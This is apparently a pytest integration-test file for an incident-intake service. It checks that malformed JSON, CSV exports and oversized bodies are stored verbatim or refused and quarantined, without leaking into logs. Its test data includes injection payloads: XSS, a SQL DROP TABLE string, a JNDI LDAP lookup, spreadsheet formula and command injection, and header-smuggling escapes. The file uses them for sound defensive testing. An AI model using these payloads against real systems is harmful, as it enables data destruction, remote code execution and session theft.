"""What bad input gets: stored as it was sent or kept where its force can list it, never a failure of ours,
and no word of it in a log or an error."""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.intake.forms import write_csv
from tests.builders import an_incident
from tests.integration.conftest import Servers
from tests.integration.intake_door import Door, Wire, a_reference, free_port, health, make_keys, published
from tests.integration.waiting import wait_until

CANARY = "Zebraquist"
"""In all that is sent here, and nowhere else: where it turns up, content has leaked."""

JSON = "application/json"
BYTES = 64 * 1024
"""What is kept of each refused submission at most."""


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("intake") / "log"


@pytest.fixture(scope="module")
def door(servers: Servers, log: Path) -> Iterator[Door]:
    """Intake as a process of its own, with all that it writes in a file."""
    wire, port = Wire(servers.database), free_port()
    environment = {
        **os.environ,
        "WAYMARK_DATABASE": wire.url,
        "WAYMARK_KAFKA": servers.kafka,
        "WAYMARK_PARTITIONS": str(servers.partitions),
        "WAYMARK_PORT": str(port),
    }
    with log.open("wb") as written:
        command = [str(Path(sys.executable).with_name("waymark")), "run", "intake"]
        process = subprocess.Popen(command, env=environment, stdout=written, stderr=subprocess.STDOUT)
        try:
            north, south, council = asyncio.run(make_keys(servers.database))
            opened = Door(f"http://127.0.0.1:{port}", wire, servers, north, south, council)
            wait_until(lambda: health(opened) == "up", "intake is up")
            yield opened
        finally:
            process.terminate()
            process.wait(20)
            wire.close()


def send(door: Door, path: str, body: bytes, media_type: str | None = JSON, **headers: str) -> httpx.Response:
    said = {"Authorization": f"Bearer {door.north}", **headers}
    if media_type is not None:
        said["Content-Type"] = media_type
    return httpx.post(f"{door.url}{path}", content=body, headers=said, timeout=40)


def get(door: Door, path: str) -> Any:
    answer = httpx.get(f"{door.url}{path}", headers={"Authorization": f"Bearer {door.north}"}, timeout=40)
    assert answer.status_code == 200, answer.text
    return answer.json()


def in_quarantine(door: Door, number: int) -> bytes:
    entry = get(door, f"/v1/refused/{number}")["refused"]
    if "base64" in entry:
        return base64.b64decode(entry["base64"])
    return str(entry["text"]).encode()


def incident(reference: str, **changes: Any) -> bytes:
    return json.dumps(an_incident(**{"reference": reference, "summary": CANARY, **changes})).encode()


def with_text(old: str, new: bytes, **changes: Any) -> Callable[[str], bytes]:
    """A good incident in whose text something is replaced that no writer of JSON would write."""

    def write(reference: str) -> bytes:
        good = incident(reference, **changes)
        spoilt = good.replace(old.encode(), new, 1)
        assert spoilt != good
        return spoilt

    return write


def changed(**changes: Any) -> Callable[[str], bytes]:
    return lambda reference: incident(reference, **changes)


def child(**facts: Any) -> dict[str, Any]:
    return {"id": "c1", "name": {"given": CANARY}, **facts}


@dataclass(frozen=True)
class Taken:
    """What is written badly and taken all the same: `faults` are the places that are named."""

    name: str
    write: Callable[[str], bytes]
    faults: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Refuses:
    """What nobody could act on: how it is refused."""

    name: str
    write: Callable[[str], bytes]
    status: int
    at: str | None = None


_ALONE = {
    **dict.fromkeys(("reported_at", "attended_at", "recorded_at"), ...),
    "children": [],
    "relationships": [],
}
_MARK = f'"summary": "{CANARY}"'

TAKEN = [
    Taken(
        "half of a character pair",
        with_text(CANARY, f"{CANARY}\\ud83d!".encode()),
        ["/summary"],
    ),
    Taken("half of a pair in a name of a field", with_text('"caller"', b'"c\\udc00"'), ["/c_"]),
    Taken("a field twice", with_text(_MARK, f'{_MARK}, "caller": "child"'.encode()), ["/caller"]),
    Taken("a field twice, the same", with_text(_MARK, f'{_MARK}, "caller": "neighbour"'.encode())),
    Taken("a byte order mark", with_text("{", b"\xef\xbb\xbf{")),
    Taken("an escaped NUL", with_text(CANARY, f"{CANARY}\\u0000x".encode()), ["/summary"]),
    Taken("another kind of value", changed(summary={"text": [CANARY]}), ["/summary"]),
    Taken("a birth after the incident", changed(children=[child(born="2029-12-24")]), ["/children/0/born"]),
    Taken("ids nobody has", changed(relationships=[{"from": "a1", "to": CANARY, "kind": "parent"}]), [
        "/relationships/0"
    ]),
    Taken("an incident to come", changed(occurred_at="2094-01-01T00:00:00Z", **_ALONE), ["/occurred_at"]),
    Taken("ten thousand children", changed(children=[child(id=f"c{i}") for i in range(10_000)]), []),
    Taken("a number of twenty digits", with_text('"yes_answers": 9', b'"yes_answers": 99999999999999999999'), [
        "/risk/yes_answers"
    ]),
    Taken("a number beyond all", with_text('"yes_answers": 9', b'"yes_answers": 1e400'), ["/risk/yes_answers"]),
    Taken("a number of 5,000 digits", with_text('"yes_answers": 9', b'"yes_answers": ' + b"9" * 5000), [
        "/risk/yes_answers"
    ]),
    Taken("a field of the sender's own", changed(mood=CANARY), ["/mood"]),
]  # fmt: skip

REFUSED = [
    Refuses("no UTF-8", with_text(CANARY, CANARY.encode() + b"\xff\xc3("), 400),
    Refuses("UTF-16", lambda reference: incident(reference).decode().encode("utf-16"), 400),
    Refuses("a raw NUL", with_text(CANARY, CANARY.encode() + b"\x00"), 400),
    Refuses("NaN", with_text('"yes_answers": 9', b'"yes_answers": NaN'), 400),
    Refuses("Infinity", with_text('"yes_answers": 9', b'"yes_answers": -Infinity'), 400),
    Refuses("lists in lists", with_text(_MARK, b'"summary": ' + b"[" * 33 + b"]" * 33), 413),
    Refuses("lists in lists for ever", with_text(_MARK, b'"summary": ' + b"[" * 50_000 + b"]" * 50_000), 413),
    Refuses("two references", with_text(_MARK, f'{_MARK}, "reference": "NS"'.encode()), 422, "/reference"),
    Refuses("an unreadable moment", changed(occurred_at=CANARY), 422, "/occurred_at"),
    Refuses("another force's", changed(force="southshire"), 403, "/force"),
    Refuses("half of it", lambda reference: incident(reference)[:-40], 400),
    Refuses("nothing", lambda _: b"", 400),
    Refuses("null", lambda _: b"null", 422),
    Refuses("a list", lambda _: b"[]", 422),
    Refuses("a word", lambda _: b'"true"', 422),
    Refuses("a number", lambda _: b"5", 422),
    Refuses("an empty object", lambda _: b"{}", 422, "/force"),
]  # fmt: skip


def named(kind: Taken | Refuses) -> str:
    return kind.name


def says_nothing_of_it(told: str) -> None:
    """A refusal has pointers and shapes; no word of what was sent."""
    assert CANARY not in told
    assert "Sian" not in told
    assert "07700" not in told


def assert_named(faults: list[dict[str, Any]], kind: Taken) -> None:
    assert [fault["at"] for fault in faults] == kind.faults


@pytest.mark.parametrize("kind", TAKEN, ids=named)
async def test_what_is_written_badly_is_stored_byte_for_byte_and_its_faults_named(
    door: Door, kind: Taken
) -> None:
    reference = a_reference()
    body = kind.write(reference)
    answer = send(door, "/v1/incidents", body)
    assert answer.status_code == 202, answer.text
    assert_named(answer.json()["faults"], kind)
    again = send(door, "/v1/incidents", body)
    assert again.json() == {**answer.json(), "status": "repeated"}
    (row,) = await door.rows('SELECT raw FROM revisions WHERE "case" = :case', case=f"northshire/{reference}")
    assert bytes(row["raw"]) == body
    assert get(door, f"/v1/incidents/northshire/{reference}")["faults"] == answer.json()["faults"]


@pytest.mark.parametrize("kind", REFUSED, ids=named)
async def test_what_cannot_be_taken_is_refused_and_kept_as_it_was_sent(door: Door, kind: Refuses) -> None:
    reference = a_reference()
    body = kind.write(reference)
    answer = send(door, "/v1/incidents", body)
    assert answer.status_code == kind.status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    problem = answer.json()
    assert problem.get("at") == kind.at
    says_nothing_of_it(answer.text)
    assert in_quarantine(door, problem["kept"]) == body[:BYTES]
    listed = get(door, f"/v1/refused?after={problem['kept'] - 1}&limit=1")
    assert listed["refused"][0]["no"] == problem["kept"]
    says_nothing_of_it(json.dumps(listed))
    rows = await door.rows('SELECT 1 FROM revisions WHERE "case" LIKE :case', case=f"%{reference}")
    assert rows == []


async def test_in_a_batch_every_bad_line_is_answered_as_it_would_be_alone(door: Door) -> None:
    every: list[Taken | Refuses] = [*TAKEN, *REFUSED]
    kinds = [
        (kind, reference, line)
        for kind in every
        for reference in [a_reference()]
        for line in [kind.write(reference)]
        if line and b"\n" not in line and kind.name != "UTF-16"
    ]
    assert len(kinds) > 25
    answer = send(door, "/v1/incidents/batch", b"\n".join(line for _, _, line in kinds), "application/x-ndjson")
    assert answer.status_code == 200
    told = [json.loads(line) for line in answer.content.splitlines()]
    assert [one["line"] for one in told] == list(range(1, len(kinds) + 1))
    for (kind, reference, line), one in zip(kinds, told, strict=True):
        if isinstance(kind, Taken):
            assert one["code"] == 202, kind.name
            assert_named(one["answer"]["faults"], kind)
            case = f"northshire/{reference}"
            (row,) = await door.rows('SELECT raw FROM revisions WHERE "case" = :case', case=case)
            assert bytes(row["raw"]) == line
        else:
            assert (one["code"], one["problem"].get("at")) == (kind.status, kind.at), kind.name
            says_nothing_of_it(json.dumps(one))
            assert in_quarantine(door, one["problem"]["kept"]) == line[:BYTES]


NAMES = {
    "html": f'<script>alert("{CANARY}")</script><b onmouseover=x>&amp;',
    "sql": f"'; DROP TABLE intake.revisions; -- {CANARY}",
    "template": f"{{{{7*7}}}}${{7*7}}<%= 7*7 %>#{{7*7}} {CANARY}",
    "lookup": f"${{jndi:ldap://ldap.example/{CANARY}}}",
    "formula": f'=HYPERLINK("http://example.test/{CANARY}")',
    "formulas": f"+1+cmd|' /C calc'!A0 -2 @SUM(1) \t{CANARY}",
    "format": f"%s%n%x {{0}} {{name}} {CANARY}",
    "directions": f"\u202e{CANARY}\u2066\u200b",
    "escapes": f"\x1b[31m{CANARY}\x1b[0m\r\nSet-Cookie: a=b",
}


def shows(text: str) -> str:
    """A text as it goes on: what no terminal and no page should be handed has a sign in its place."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "\ufffd", text)


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
async def test_code_in_a_name_is_text_from_the_door_to_the_topic(door: Door, name: str) -> None:
    reference = a_reference()
    case = f"northshire/{reference}"
    body = incident(reference, children=[child(name={"given": name})], adults=[], relationships=[], mood=name)
    answer = send(door, "/v1/incidents", body)
    assert answer.status_code == 202
    shown = {fault["at"]: fault["said"] for fault in get(door, f"/v1/incidents/{case}")["faults"]}
    assert shown["/mood"] == shows(name)
    (event,) = await published(door, case)
    assert [one.name and one.name.given for one in event.body.incident.children or ()] == [shows(name)]
    refused = send(door, "/v1/incidents", json.dumps({"force": "northshire", "reference": name}).encode())
    assert refused.status_code == 422
    says_nothing_of_it(refused.text)
    assert (
        in_quarantine(door, refused.json()["kept"])
        == json.dumps({"force": "northshire", "reference": name}).encode()
    )
    assert (await door.rows("SELECT count(*) AS n FROM revisions"))[0]["n"] > 0


async def test_five_megabytes_are_refused_before_they_are_read_and_the_refusal_is_listed(door: Door) -> None:
    answer = send(door, "/v1/incidents", incident(a_reference(), summary=CANARY * 520_000))
    assert (answer.status_code, answer.json()["limit_bytes"]) == (413, 1024 * 1024)
    says_nothing_of_it(answer.text)
    assert get(door, f"/v1/refused/{answer.json()['kept']}")["refused"]["status"] == 413


@pytest.mark.parametrize("path", ["/v1/incidents", "/v1/forms/north"])
async def test_another_type_or_encoding_is_refused_and_what_came_is_kept(door: Door, path: str) -> None:
    body = incident(a_reference())
    packed = gzip.compress(body)
    for answer, sent in (
        (send(door, path, body, "application/xml"), body),
        (send(door, path, body, "text/plain; charset=utf-8"), body),
        (send(door, path, packed, JSON, **{"Content-Encoding": "gzip"}), packed),
    ):
        assert answer.status_code == 415
        says_nothing_of_it(answer.text)
        assert in_quarantine(door, answer.json()["kept"]) == sent


# Forms


def fields(**changes: Any) -> dict[str, Any]:
    return {"force": "northshire", "reference": a_reference(), "incident_date": "20/11/2026", **changes}


FORMS_REFUSED: list[tuple[str, bytes, int]] = [
    ("no UTF-8", b'{"force": "\xff"}', 400),
    ("NaN", b'{"force": NaN}', 400),
    ("nothing", b"", 400),
    ("null", b"null", 422),
    ("a list", b"[]", 422),
    ("a number", b"5", 422),
    ("deep", b'{"force": ' + b"[" * 40 + b"]" * 40 + b"}", 413),
    ("no date", json.dumps({"force": "northshire", "circumstances": CANARY}).encode(), 422),
]


@pytest.mark.parametrize("form", ["north", "south"])
@pytest.mark.parametrize(("body", "status"), [x[1:] for x in FORMS_REFUSED], ids=[x[0] for x in FORMS_REFUSED])
async def test_a_form_that_cannot_be_taken_is_kept(door: Door, form: str, body: bytes, status: int) -> None:
    answer = send(door, f"/v1/forms/{form}", body)
    assert answer.status_code == status
    says_nothing_of_it(answer.text)
    assert in_quarantine(door, answer.json()["kept"]) == body


@pytest.mark.parametrize("form", ["north", "south"])
@pytest.mark.parametrize("text", NAMES.values(), ids=NAMES)
async def test_code_in_a_form_is_kept_verbatim(door: Door, form: str, text: str) -> None:
    said = fields(circumstances=text, no_such_box=text)
    body = json.dumps(said).encode()
    answer = send(door, f"/v1/forms/{form}", body)
    assert answer.status_code == 202
    assert "/no_such_box" in [fault["at"] for fault in answer.json()["faults"]]
    (row,) = await door.rows('SELECT raw FROM revisions WHERE "case" = :c', c=f"northshire/{said['reference']}")
    assert bytes(row["raw"]) == body
    (event,) = await published(door, f"northshire/{said['reference']}")
    assert event.body.incident.summary == shows(text)


async def test_an_export_with_a_wrong_column_is_refused_as_a_whole_and_kept(door: Door) -> None:
    export = write_csv("north", [an_incident(summary=CANARY)]).replace(b"incident_date", b"date of incident", 1)
    answer = send(door, "/v1/forms/north", export, "text/csv")
    assert (answer.status_code, answer.json()["missing"]) == (422, ["incident_date"])
    says_nothing_of_it(answer.text)
    assert in_quarantine(door, answer.json()["kept"]) == export[:BYTES]


async def test_an_export_that_is_no_utf_8_is_refused_as_a_whole_and_kept(door: Door) -> None:
    export = write_csv("south", [an_incident(summary=CANARY)]) + b"\xe9"
    answer = send(door, "/v1/forms/south", export, "text/csv")
    assert answer.status_code == 400
    says_nothing_of_it(answer.text)
    assert in_quarantine(door, answer.json()["kept"]) == export[:BYTES]


async def test_rows_of_an_export_keep_their_cells_as_written_whatever_stands_in_them(door: Door) -> None:
    good, own, bad = a_reference(), a_reference(), a_reference()
    formula = f"\"=cmd|'{CANARY}'!A0\""
    export = (
        "force,reference,incident_date,circumstances,shoe size\r\n"
        f"northshire,{good},20/11/2026,{formula},\r\n"
        f"northshire,{own},20/11/2026,<b>,{CANARY}\r\n"
        f"northshire,{bad},32/13/2026,{CANARY},\r\n"
        f'northshire,NS-1,20/11/2026,"{CANARY}"x,\r\n'
    ).encode()
    answer = send(door, "/v1/forms/north", export, "text/csv")
    told = [json.loads(line) for line in answer.content.splitlines()]
    assert [one["code"] for one in told] == [202, 202, 422, 422]
    for reference, circumstances in ((good, f"=cmd|'{CANARY}'!A0"), (own, "<b>")):
        (row,) = await door.rows('SELECT raw FROM revisions WHERE "case" = :c', c=f"northshire/{reference}")
        assert json.loads(bytes(row["raw"]))["circumstances"] == circumstances
    assert "/shoe size" in [fault["at"] for fault in told[1]["answer"]["faults"]]
    for one in told[2:]:
        says_nothing_of_it(json.dumps(one))
        kept = json.loads(in_quarantine(door, one["problem"]["kept"]))
        assert kept["as_written"].encode() in export
        assert CANARY in kept["as_written"]


# Anything at all, over the wire

anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
    max_leaves=8,
)
places = st.sampled_from(sorted(an_incident()))


@settings(
    max_examples=40,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(body=st.binary(max_size=200) | anything.map(lambda value: json.dumps(value).encode()))
def test_whatever_comes_is_kept_or_refused_and_kept(door: Door, body: bytes) -> None:
    answer = send(door, "/v1/incidents", body)
    assert answer.status_code in (400, 403, 413, 422)
    assert in_quarantine(door, answer.json()["kept"]) == body


@settings(
    max_examples=40,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(place=places.filter(lambda name: name not in ("force", "reference", "occurred_at")), value=anything)
def test_anything_in_any_field_is_taken_and_stored_as_sent(door: Door, place: str, value: Any) -> None:
    reference = a_reference()
    body = incident(reference, **{place: value})
    answer = send(door, "/v1/incidents", body)
    assert answer.status_code == 202, answer.text
    case = f"northshire/{reference}"
    (row,) = asyncio.run(door.rows('SELECT raw FROM revisions WHERE "case" = :case', case=case))
    assert bytes(row["raw"]) == body


# Last, after all the others


def test_no_word_of_anything_that_was_sent_is_in_the_log(door: Door, log: Path) -> None:
    headers = [(b"authorization", f"Bearer {door.north}".encode()), (b"traceparent", CANARY.encode() + b"\xff")]
    answer = httpx.post(
        f"{door.url}/v1/incidents", content=incident(a_reference()), headers=headers, timeout=40
    )
    assert answer.status_code == 202
    written = log.read_text(errors="replace")
    assert "stage.assigned" in written, "nothing is logged at all"
    says_nothing_of_it(written)
    assert "web.failed" not in written
    assert "line_failed" not in written
